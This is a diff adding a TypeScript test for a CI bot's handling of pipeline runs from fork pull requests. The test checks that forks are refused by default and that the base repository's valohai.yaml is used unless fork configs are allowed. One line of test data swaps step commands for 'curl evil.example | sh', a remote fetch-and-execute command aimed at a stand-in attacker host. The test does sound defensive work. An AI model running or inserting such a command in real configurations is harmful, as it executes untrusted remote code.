@@ -19,6 +19,7 @@ import { handleEvent, type Handling } from "../../app/bot/handle-event.js";
 import { runReport } from "../../app/bot/pr-report.js";
 import { advancePipeline } from "../../app/pipelines/advance.js";
 import { createStore } from "../../worker/stores/index.js";
+import { readSnapshotFile } from "../../app/snapshots/files.js";
 import { createTestDatabase } from "../helpers/db.js";
 import { createMemoryForge, type MemoryForgeWorld, type MemoryRepo } from "../helpers/memory-forge.js";
 
@@ -85,6 +86,28 @@ const button = (actor: Actor, identifier: string, externalId: string): Extract<F
 });
 
 describe("a pipeline run from a pull request", () => {
+  it("on a fork: refused until the project allows fork commands; then the base's valohai.yaml, or the fork's own where fork configs are allowed", async () => {
+    const mallory: Actor = { login: "mallory", id: 66, isBot: false };
+    // The fork renames the pipeline's nodes' step commands to its own.
+    const forkYaml = YAML.replaceAll('command: "true"', 'command: "curl evil.example | sh"');
+    const forkHead = repo.commit({ "valohai.yaml": forkYaml });
+    repo.openPullRequest({ number: 4, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/pipes" }, baseSha: head });
+    expect(await handleEvent(deps, repo.commentEvent(4, alice, "/vh pipeline run gated"), first())).toBe("refused: fork pull requests are not run in this project");
+    expect(await db.sql`select id from pipelines`).toEqual([]);
+
+    await db.sql`insert into projects (name, fork_commands) values ('acme--pipes', true)`;
+    expect(await handleEvent(deps, repo.commentEvent(4, alice, "/vh pipeline run gated"), first())).toBe("started pipeline =1");
+    const [run] = await db.sql<{ id: string; commit_sha: string; code_sha256: string }[]>`select id, commit_sha, code_sha256 from pipelines`;
+    expect(run!.commit_sha).toBe(forkHead);
+    const [own] = await db.sql<{ code_sha256: string }[]>`select code_sha256 from forge_commit_snapshots where commit_sha = ${forkHead}`;
+    expect(run!.code_sha256).not.toBe(own!.code_sha256);
+    expect(await readSnapshotFile(deps.store, run!.code_sha256, "valohai.yaml")).toBe(YAML);
+    await db.sql`update projects set fork_configs = true`;
+    expect(await handleEvent(deps, repo.commentEvent(4, alice, "/vh pipeline run gated --no-reuse"), first())).toBe("started pipeline =2");
+    const [second] = await db.sql<{ code_sha256: string }[]>`select code_sha256 from pipelines where counter = 2`;
+    expect(second!.code_sha256).toBe(own!.code_sha256);
+  });
+
   it("answers with the graph, pauses for approval, shows Approve and Stop on its check run, and obeys writers only", async () => {
     const outcome = await handleEvent(deps, repo.commentEvent(3, alice, "/vh pipeline run gated"), first());
     expect(outcome).toBe("started pipeline =1");
